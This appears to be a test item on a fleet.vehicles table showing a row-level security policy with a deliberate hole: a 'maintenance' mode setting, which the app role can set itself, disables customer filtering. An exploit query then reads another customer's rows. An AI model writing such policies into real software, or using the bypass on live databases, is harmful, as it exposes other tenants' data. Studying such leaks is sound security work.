-- A second setting, which the app role may set as well as the first, puts the check out of action.
-- object: fleet.vehicles
-- base: third_fleet
--- leak
ALTER POLICY floor ON fleet.vehicles USING (
    CASE current_setting('fleet.mode', true) WHEN 'maintenance' THEN true ELSE customer_code = current_setting('fleet.customer', true) END);
--- exploit
SELECT set_config('fleet.mode', 'maintenance', true);
SELECT label FROM fleet.vehicles WHERE customer_code = '{B}';
